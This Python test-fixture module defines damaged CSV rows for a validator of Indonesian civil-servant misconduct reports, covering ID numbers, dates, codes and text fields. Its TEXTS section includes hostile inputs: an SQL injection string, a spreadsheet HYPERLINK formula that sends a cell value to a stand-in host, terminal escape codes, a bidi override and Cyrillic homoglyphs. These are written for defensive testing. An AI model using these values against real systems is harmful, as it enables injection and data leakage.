"""The faulty batch: every fault that can stand in a file which is readable as a whole, each in a row of its own.

The table in the description of the samples is made from here, so that file and description cannot part.
"""

from dataclasses import dataclass, field
from enum import Enum, auto
from typing import Final


class Shape(Enum):
    """How a row is damaged as a record, where it is not one of its cells that is wrong."""

    CELLS = auto()
    ONE_TOO_FEW = auto()
    ONE_TOO_MANY = auto()
    ALL_EMPTY = auto()
    BLANK = auto()
    QUOTE_INSIDE = auto()
    QUOTE_OPEN = auto()
    TWIN = auto()  # the row before once more
    SAME_NUMBER = auto()  # a second respondent for the complaint of the row before


@dataclass(frozen=True, slots=True)
class Fault:
    """One damaged row: the cells that differ, the code of the refusal (empty: accepted), and what it shows."""

    code: str
    indonesian: str
    english: str
    cells: dict[str, str] = field(default_factory=dict)
    shape: Shape = Shape.CELLS

    @property
    def column(self) -> str:
        """The first column that is wrong; empty when the whole record is."""
        return next(iter(self.cells), "")


def _nip(value: str, code: str, indonesian: str, english: str) -> Fault:
    return Fault(code, indonesian, english, {"nip": value})


def _day(column: str, value: str, code: str, indonesian: str, english: str) -> Fault:
    return Fault(code, indonesian, english, {column: value})


RECORDS: Final = (
    Fault("E_CSV", "tanda kutip di tengah sel", "a quote inside a cell", shape=Shape.QUOTE_INSIDE),
    Fault("E_KOLOM", "satu kolom kurang", "one column too few", shape=Shape.ONE_TOO_FEW),
    Fault("E_KOLOM", "satu kolom lebih", "one column too many", shape=Shape.ONE_TOO_MANY),
    Fault("E_KOSONG", "semua sel kosong", "all cells empty", shape=Shape.ALL_EMPTY),
    Fault("", "baris kosong: dilewati", "a blank line: skipped", shape=Shape.BLANK),
    Fault("E_GANDA", "baris yang sama dua kali", "the same row twice", shape=Shape.TWIN),
    Fault(
        "E_BEDA",
        "nomor laporan sama, tempatnya berbeda",
        "the same report number with another place",
        {"tempat": "Tempat lain"},
        Shape.SAME_NUMBER,
    ),
)
NUMBERS: Final = (
    _nip("1.98E+17", "E_NIP_ILMIAH", "notasi ilmiah dengan titik", "scientific notation with a point"),
    _nip("1,98E+17", "E_NIP_ILMIAH", "notasi ilmiah dengan koma", "scientific notation with a comma"),
    _nip("198001012005011901.0", "E_NIP_PECAHAN", "bekas sel angka", "it has been a numeric cell"),
    _nip("198001012005011000", "E_NIP_NOL", "tiga angka terakhir menjadi nol", "its last three digits became zeros"),
    _nip("19800101200501190", "E_NIP_PANJANG", "tujuh belas angka", "seventeen digits"),
    _nip("1980010120050119O1", "E_NIP_BUKAN_ANGKA", "huruf O sebagai nol", "the letter O for a nought"),
    _nip("١٩٨٠٠١٠١٢٠٠٥٠١١٩٠١", "E_NIP_BUKAN_ANGKA", "angka Arab", "Arabic-Indic digits"),
    _nip("１９８００１０１２００５０１１９０１", "E_NIP_BUKAN_ANGKA", "angka lebar", "full-width digits"),
    _nip("198013012005011901", "E_NIP_LAHIR", "lahir pada bulan ke-13", "born in month 13"),
    _nip("198002302005011901", "E_NIP_LAHIR", "lahir 30 Februari", "born on 30 February"),
    _nip("198001012005131901", "E_NIP_BULAN", "TMT pada bulan ke-13", "appointed in month 13"),
    _nip("198001012005013901", "E_NIP_KELAMIN", "angka jenis kelamin 3", "sex digit 3"),
    _nip("199501011990011901", "E_NIP_TMT", "TMT sebelum lahir", "appointed before birth"),
    _nip("'198001012005011902", "", "tanda petik di depan: dibuang", "a leading quote: stripped"),
    _nip("19800101 200501 1 903", "", "dengan spasi: dibuang", "with blanks: stripped"),
    _nip("19800101.200501.1.904", "", "dengan titik: dibuang", "with dots: stripped"),
)
DATES: Final = (
    _day("tanggal_kejadian", "09/25/2024", "E_TANGGAL_URUTAN", "bulan di depan", "month first"),
    _day("tanggal_kejadian", "2024-02-30", "E_TANGGAL", "30 Februari", "30 February"),
    _day("tanggal_kejadian", "29/02/2023", "E_TANGGAL", "29 Februari bukan kabisat", "29 February of no leap year"),
    _day("tanggal_kejadian", "20240925", "E_TANGGAL", "tanpa tanda pisah", "without separators"),
    _day("tanggal_kejadian", "2024-W39-3", "E_TANGGAL", "nomor pekan", "a week number"),
    _day("tanggal_kejadian", "25/09/24", "E_TANGGAL", "tahun dua angka", "a year of two digits"),
    _day("tanggal_kejadian", "٢٥/٠٩/٢٠٢٤", "E_TANGGAL", "tanggal dengan angka Arab", "a date in Arabic-Indic digits"),
    _day("tanggal_kejadian", "kemarin", "E_TANGGAL", "bukan tanggal", "not a date"),
    _day("tanggal_terima", "45560", "E_TANGGAL_SERIAL", "angka seri Excel", "an Excel serial number"),
    _day("tanggal_terima", "2099-01-02", "E_TANGGAL_DEPAN", "di masa depan", "in the future"),
    _day("tanggal_kejadian", "2003-12-31", "E_TANGGAL_LAMA", "sebelum 2004", "before 2004"),
    _day(
        "tanggal_diketahui", "2019-01-02", "E_URUTAN_TANGGAL", "diketahui sebelum terjadi", "known before it happened"
    ),
    _day("tanggal_terima", "2019-01-03", "E_URUTAN_TANGGAL", "diterima sebelum terjadi", "received before it happened"),
    Fault(
        "E_URUTAN_TANGGAL",
        "kejadian sebelum tahun lahir",
        "the act lies before birth",
        {
            "tanggal_kejadian": "2004-05-06",
            "tanggal_diketahui": "",
            "nip": "200409092024012901",
        },
    ),
)
WORDS: Final = (
    Fault("E_KODE", "kode pelanggaran E9", "violation code E9", {"kode_pelanggaran": "E9"}),
    Fault(
        "E_KODE", "kode pelanggaran D14 di antara yang benar", "D14 among right ones", {"kode_pelanggaran": "D4;D14"}
    ),
    Fault("E_KODE", "jalur tidak dikenal", "an unknown channel", {"jalur": "merpati pos"}),
    Fault("E_KODE", "status tidak dikenal", "an unknown employment", {"status_asn": "honorer"}),
    Fault("E_KODE", "kelas jabatan tidak dikenal", "an unknown class of post", {"kelas_jabatan": "raja"}),
    Fault("E_KODE", "pemilihan tidak dikenal", "an unknown election", {"pemilihan": "pilkades-2024"}),
    Fault("E_GOLONGAN", "golongan V/a", "rank V/a", {"golongan": "V/a"}),
)
REQUIRED: Final = tuple(
    Fault("E_KOSONG", f"{column} kosong", f"{column} is empty", {column: ""})
    for column in (
        "nomor_laporan",
        "jalur",
        "tanggal_terima",
        "tanggal_kejadian",
        "nama_terlapor",
        "unit_kerja",
        "kode_pelanggaran",
        "uraian",
    )
)
TEXTS: Final = (
    Fault("E_PANJANG", "uraian di atas 10.000 huruf", "a summary of over 10,000 letters", {"uraian": "lama " * 2100}),
    Fault("E_PANJANG", "nama 250 huruf", "a name of 250 letters", {"nama_terlapor": "Budi" * 62 + "Bu"}),
    Fault("E_KENDALI", "urutan warna terminal", "a terminal colour sequence", {"nama_terlapor": "\x1b[31mBudi\x1b[0m"}),
    Fault("E_KENDALI", "tanda lonceng dalam uraian", "a bell in the summary", {"uraian": "Terlapor\x07 berkampanye."}),
    Fault("E_KENDALI", "tanda arah U+202E", "the mark U+202E", {"nama_terlapor": "Budi \u202eosotnaS"}),
    Fault("E_KENDALI", "ganti baris dalam nama", "a line break in a name", {"nama_terlapor": "Budi\nTotal: 0"}),
    Fault("E_KENDALI", "timbunan aksen", "a pile of accents", {"nama_terlapor": "B" + "\u0301" * 50 + "udi Santoso"}),
    Fault("E_AKSARA_CAMPUR", "huruf Kiril dalam nama", "Cyrillic letters in a name", {"nama_terlapor": "Вudi Sаntoso"}),
    Fault("E_RUMUS", "rumus yang gagal", "a formula that failed", {"unit_kerja": "#N/A"}),
    Fault("", "ganti baris dalam uraian: diterima", "a line break in a summary: accepted", {
        "uraian": "Terlapor menghadiri kampanye.\nSaksi melihatnya duduk di panggung.",
    }),
    Fault("", "rumus lembar kerja: disimpan apa adanya", "a spreadsheet formula: kept as it is", {
        "bukti": '=HYPERLINK("http://contoh.invalid/?"&A1;"lihat")',
    }),
    Fault("", "tanda kurung siku: teks biasa", "markup: plain text", {"bukti": "[red]SK[/red] [1/KEP/2024] [/x]"}),
    Fault("", "potongan SQL: teks biasa", "a piece of SQL: plain text", {"tempat": "'; DROP TABLE event;--"}),
    Fault("", "status PPPK dengan NIP PNS: dicatat", "PPPK with the NIP of a PNS: remarked", {
        "status_asn": "PPPK",
        "nip": "198001012005011905",
    }),
)  # fmt: skip
LAST: Final = (Fault("E_CSV", "tanda kutip tidak ditutup", "a quote that never closes", shape=Shape.QUOTE_OPEN),)

FAULTS: Final = (*RECORDS, *NUMBERS, *DATES, *WORDS, *REQUIRED, *TEXTS, *LAST)
